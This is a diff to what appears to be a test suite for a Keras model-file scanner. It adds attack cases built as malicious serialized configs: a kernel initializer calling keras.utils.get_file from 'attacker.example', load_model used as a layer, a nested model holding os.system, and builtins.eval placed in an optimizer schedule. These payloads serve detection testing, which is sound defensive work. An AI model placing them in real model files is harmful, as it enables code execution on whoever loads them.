@@ -167,6 +167,21 @@ ATTACKS = [
            "WA432", "config.layers[2]", "io.write_file", legacy=True),
     Attack("legacy-custom-optimizer", lambda: ks.legacy_sequential(),
            "WA434", "training_config.optimizer_config", "evil>Adam", legacy=True),
+    # QA second wave: dangerous functions named as objects, deep nesting, schedules
+    Attack("8747-get-file-as-initializer-class", lambda: with_layer(dense_with("d", kernel_initializer=ks.obj(
+        "keras.utils", "get_file", {"fname": "x", "origin": "http://attacker.example/x"}))),
+           "WA433", "config.layers[1].config.kernel_initializer", "keras.utils.get_file"),
+    Attack("9906-load-model-as-layer-class", lambda: with_layer(ks.layer(
+        "load_model", "lm", ["features"], module="keras.src.saving.saving_api")),
+           "WA433", "config.layers[1]", "keras.src.saving.saving_api.load_model"),
+    Attack("1550-nested-functional-os", lambda: with_layer({**ks.obj("keras.src.models.functional", "Functional", {
+        "name": "inner", "layers": [ks.input_layer(), {**ks.obj("os", "system", {"name": "s"}), "name": "s"}],
+        "input_layers": [], "output_layers": []}), "name": "inner"}),
+           "WA431", "config.layers[1].config.layers[1]", "'os'"),
+    Attack("1550-optimizer-schedule-eval", lambda: {**with_layer(ks.dense("d", ["features"])), "compile_config": {
+        **ks.compile_config(), "optimizer": ks.obj("keras.optimizers", "Adam", {"learning_rate": fn("builtins",
+                                                                                                     "eval")})}},
+           "WA433", "compile_config.optimizer.config.learning_rate", "builtins.eval"),
     Attack("keras-hub-class", lambda: with_layer(ks.layer("GemmaBackbone", "g", ["features"],
                                                           module="keras_hub.src.models.gemma.gemma_backbone")),
            "WA431", "config.layers[1]", "keras_hub"),
